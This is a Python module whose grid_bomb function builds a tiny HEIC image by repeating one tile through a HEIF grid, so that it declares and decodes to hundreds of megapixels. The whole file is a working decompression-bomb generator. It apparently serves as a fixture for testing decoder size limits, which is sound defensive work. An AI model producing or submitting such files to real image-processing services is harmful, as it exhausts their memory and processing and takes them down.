"""A HEIC of a few kilobytes that claims, and would decode to, hundreds of megapixels."""

import io
from struct import pack

import pillow_heif
from PIL import Image

__all__ = ["grid_bomb"]

_TILE = 1024


def grid_bomb(megapixels: int) -> bytes:
    """Return a HEIF whose grid repeats one tile until it has about so many megapixels."""
    sink = io.BytesIO()
    pillow_heif.register_heif_opener()
    Image.new("RGB", (_TILE, _TILE)).save(sink, "HEIF", quality=10)
    tile = sink.getvalue()
    at = tile.index(b"hvcC") - 4
    configuration = tile[at : at + int.from_bytes(tile[at : at + 4], "big")]
    at = tile.index(b"mdat")
    data = tile[at + 4 : at - 4 + int.from_bytes(tile[at - 4 : at], "big")]
    across = 13 if megapixels < 300 else 22
    down = round(megapixels * 1_000_000 / _TILE / _TILE / across)
    grid = pack(">BBBBII", 0, 1, down - 1, across - 1, across * _TILE, down * _TILE)
    return _file(configuration, data, grid, across, down)


def _box(name: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return pack(">I", 8 + len(body)) + name + body


def _full(name: bytes, version: int, *parts: bytes) -> bytes:
    return _box(name, pack(">I", version << 24), *parts)


def _file(configuration: bytes, data: bytes, grid: bytes, across: int, down: int) -> bytes:
    start = _box(b"ftyp", b"heic", pack(">I", 0), b"mif1heic")

    def meta(offset: int) -> bytes:
        tiles = b"".join(pack(">H", 1) for _ in range(across * down))
        return _full(
            b"meta",
            0,
            _full(b"hdlr", 0, bytes(4), b"pict", bytes(13)),
            _full(b"pitm", 0, pack(">H", 2)),
            _full(
                b"iinf",
                0,
                pack(">H", 2),
                *(_item(number, kind) for number, kind in ((1, b"hvc1"), (2, b"grid"))),
            ),
            _full(b"iref", 0, _box(b"dimg", pack(">HH", 2, across * down), tiles)),
            _box(
                b"iprp",
                _box(
                    b"ipco",
                    configuration,
                    _full(b"ispe", 0, pack(">II", _TILE, _TILE)),
                    _full(b"ispe", 0, pack(">II", across * _TILE, down * _TILE)),
                ),
                _full(b"ipma", 0, pack(">I", 2), pack(">HBBB", 1, 2, 0x81, 2), pack(">HBB", 2, 1, 3)),
            ),
            _full(
                b"iloc",
                0,
                pack(">BBH", 0x44, 0, 2),
                *(
                    pack(">HHHII", number, 0, 1, place, size)
                    for number, place, size in ((1, offset, len(data)), (2, offset + len(data), len(grid)))
                ),
            ),
        )

    offset = len(start) + len(meta(0)) + 8
    return start + meta(offset) + _box(b"mdat", data, grid)


def _item(number: int, kind: bytes) -> bytes:
    return _full(b"infe", 2, pack(">HH", number, 0), kind, b"\0")
